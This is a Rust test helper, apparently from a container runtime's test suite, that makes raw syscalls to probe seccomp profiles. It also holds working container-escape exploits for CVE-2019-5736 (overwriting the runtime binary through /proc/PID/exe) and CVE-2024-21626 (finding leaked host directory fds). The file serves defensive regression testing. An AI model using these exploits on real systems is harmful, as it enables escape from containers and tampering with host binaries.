//! `probe SYSCALL [ARG...]`: make one raw syscall with integer arguments (decimal or 0x hex)
//! and print `ret=<value> errno=<n>`; exit 0 unless the arguments are bad.
//! `probe --loop N SYSCALL [ARG...]`: make it N times and print `ns_per_call=<f>` (make bench).
//! `probe exe-attack SECONDS`: the CVE-2019-5736 attacker (see [`exe_attack`]).
//! `probe fd-attack SECONDS NAME`: the CVE-2024-21626 attacker (see [`fd_attack`]).
//! Built statically and copied into the test rootfs by `make bundles`, so tests can ask what a
//! seccomp profile does to a syscall busybox has no applet for (keyctl, swapon, bpf, ...), and
//! run hostile programs inside a container.

use std::process::ExitCode;

fn number(name: &str) -> Option<libc::c_long> {
    Some(match name {
        "getpid" => libc::SYS_getpid,
        "keyctl" => libc::SYS_keyctl,
        "add_key" => libc::SYS_add_key,
        "swapon" => libc::SYS_swapon,
        "swapoff" => libc::SYS_swapoff,
        "sethostname" => libc::SYS_sethostname,
        "setdomainname" => libc::SYS_setdomainname,
        "personality" => libc::SYS_personality,
        "unshare" => libc::SYS_unshare,
        "mount" => libc::SYS_mount,
        "umount2" => libc::SYS_umount2,
        "reboot" => libc::SYS_reboot,
        "socket" => libc::SYS_socket,
        "clone" => libc::SYS_clone,
        "clone3" => libc::SYS_clone3,
        "bpf" => libc::SYS_bpf,
        "io_uring_setup" => libc::SYS_io_uring_setup,
        "userfaultfd" => libc::SYS_userfaultfd,
        "ptrace" => libc::SYS_ptrace,
        "kexec_load" => libc::SYS_kexec_load,
        "setns" => libc::SYS_setns,
        "mkdir" => libc::SYS_mkdir,
        "chmod" => libc::SYS_chmod,
        "uname" => libc::SYS_uname,
        "syslog" => libc::SYS_syslog,
        "acct" => libc::SYS_acct,
        "settimeofday" => libc::SYS_settimeofday,
        "open_by_handle_at" => libc::SYS_open_by_handle_at,
        _ => return name.parse().ok(),
    })
}

fn int(s: &str) -> Option<libc::c_long> {
    match s.strip_prefix("0x") {
        Some(h) => u64::from_str_radix(h, 16).ok().map(|v| v as libc::c_long),
        None => s.parse::<i64>().ok(),
    }
}

/// The (dev, ino) of a path's target.
fn id_of(path: &str) -> Option<(u64, u64)> {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(path).ok().map(|m| (m.dev(), m.ino()))
}

/// CVE-2019-5736: for SECONDS, watch /proc for processes whose executable is not one of the
/// image's own (busybox, this probe) — a runtime's process that entered this pid namespace —
/// hold an O_PATH fd on each one's /proc/PID/exe, and keep reopening those fds for writing
/// through /proc/self/fd/N. ETXTBSY means the binary still runs somewhere: keep trying. A
/// successful open appends a line to the file. Prints `seen=N wrote=M` and, per written file,
/// `WROTE pid=P`; the errno of each failed reopen is counted (`errno_E=count`).
fn exe_attack(seconds: u64) -> ExitCode {
    use std::collections::{BTreeMap, HashSet};
    use std::io::Write;
    use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
    let own: HashSet<(u64, u64)> = ["/bin/busybox", "/bin/probe", "/proc/self/exe"]
        .iter()
        .filter_map(|p| id_of(p))
        .collect();
    let me = std::process::id();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let mut held: Vec<(u32, OwnedFd)> = Vec::new();
    let mut seen: HashSet<u32> = HashSet::new();
    let mut errnos: BTreeMap<i32, u64> = BTreeMap::new();
    let mut wrote = 0;
    while std::time::Instant::now() < deadline {
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
                continue;
            };
            if pid == me || seen.contains(&pid) {
                continue;
            }
            let link = format!("/proc/{pid}/exe\0");
            // SAFETY: open(2) of a NUL-terminated path with O_PATH; the fd becomes ours.
            let fd = unsafe { libc::open(link.as_ptr().cast(), libc::O_PATH | libc::O_CLOEXEC) };
            if fd < 0 {
                continue;
            }
            seen.insert(pid);
            // SAFETY: the fd was just returned to us.
            let fd = unsafe { OwnedFd::from_raw_fd(fd) };
            if id_of(&format!("/proc/self/fd/{}", fd.as_raw_fd())).is_some_and(|i| !own.contains(&i)) {
                held.push((pid, fd));
            }
        }
        held.retain(|(pid, fd)| {
            let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
            match std::fs::OpenOptions::new().append(true).open(&path) {
                Ok(mut f) => {
                    let _ = f.write_all(b"\nwritten from inside a container\n");
                    println!("WROTE pid={pid}");
                    wrote += 1;
                    false
                }
                Err(e) => {
                    let n = e.raw_os_error().unwrap_or(0);
                    *errnos.entry(n).or_default() += 1;
                    // Still running somewhere: try again; any other answer is final.
                    n == libc::ETXTBSY
                }
            }
        });
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    let counts: Vec<String> = errnos.iter().map(|(e, n)| format!("errno_{e}={n}")).collect();
    println!("seen={} wrote={wrote} {}", seen.len(), counts.join(" "));
    ExitCode::SUCCESS
}

/// CVE-2024-21626 and CVE-2016-9962: for SECONDS, look through every other process's
/// /proc/PID/{cwd,root,fd/N} for a directory holding a file called NAME (a host directory the
/// test planted it in: a runtime's process that entered this pid namespace holding such a
/// directory is a way out of the container). Prints `FOUND <path>` for each, then
/// `looked=N found=M`.
fn fd_attack(seconds: u64, name: &str) -> ExitCode {
    use std::collections::HashSet;
    let me = std::process::id();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let (mut looked, mut found) = (0u64, HashSet::new());
    while std::time::Instant::now() < deadline {
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
                continue;
            };
            if pid == me {
                continue;
            }
            let mut places = vec![format!("/proc/{pid}/cwd"), format!("/proc/{pid}/root")];
            if let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) {
                places.extend(fds.flatten().map(|f| f.path().to_string_lossy().into_owned()));
            }
            for p in places {
                looked += 1;
                let target = format!("{p}/{name}");
                if std::fs::symlink_metadata(&target).is_ok() && found.insert(target.clone()) {
                    println!("FOUND {target}");
                }
            }
        }
    }
    println!("looked={looked} found={}", found.len());
    ExitCode::SUCCESS
}

fn main() -> ExitCode {
    let mut args: Vec<String> = std::env::args().skip(1).collect();
    if args.first().map(String::as_str) == Some("fd-attack") {
        return match (args.get(1).and_then(|s| s.parse().ok()), args.get(2)) {
            (Some(secs), Some(name)) => fd_attack(secs, name),
            _ => {
                eprintln!("usage: probe fd-attack SECONDS NAME");
                ExitCode::from(2)
            }
        };
    }
    if args.first().map(String::as_str) == Some("exe-attack") {
        return match args.get(1).and_then(|s| s.parse().ok()) {
            Some(secs) => exe_attack(secs),
            None => {
                eprintln!("usage: probe exe-attack SECONDS");
                ExitCode::from(2)
            }
        };
    }
    let mut repeat: Option<u64> = None;
    if args.first().map(String::as_str) == Some("--loop") {
        repeat = args.get(1).and_then(|n| n.parse().ok());
        if repeat.is_none() {
            eprintln!("usage: probe --loop N SYSCALL [ARG...]");
            return ExitCode::from(2);
        }
        args.drain(..2);
    }
    let Some(nr) = args.first().and_then(|n| number(n)) else {
        eprintln!("usage: probe SYSCALL [ARG...] (a known name or a number)");
        return ExitCode::from(2);
    };
    let mut a = [0 as libc::c_long; 6];
    for (i, s) in args.iter().skip(1).take(6).enumerate() {
        match int(s) {
            Some(v) => a[i] = v,
            None => {
                eprintln!("probe: bad argument {s:?}");
                return ExitCode::from(2);
            }
        }
    }
    if let Some(n) = repeat {
        let t = std::time::Instant::now();
        for _ in 0..n {
            // SAFETY: as below, repeated.
            unsafe { libc::syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]) };
        }
        println!("ns_per_call={:.1}", t.elapsed().as_nanos() as f64 / n as f64);
        return ExitCode::SUCCESS;
    }
    // SAFETY: the caller chose the syscall and integer arguments; pointers passed as integers
    // are the caller's responsibility (tests pass 0 or invalid ones on purpose).
    let r = unsafe { libc::syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]) };
    let e = if r < 0 { std::io::Error::last_os_error().raw_os_error().unwrap_or(0) } else { 0 };
    println!("ret={r} errno={e}");
    ExitCode::SUCCESS
}
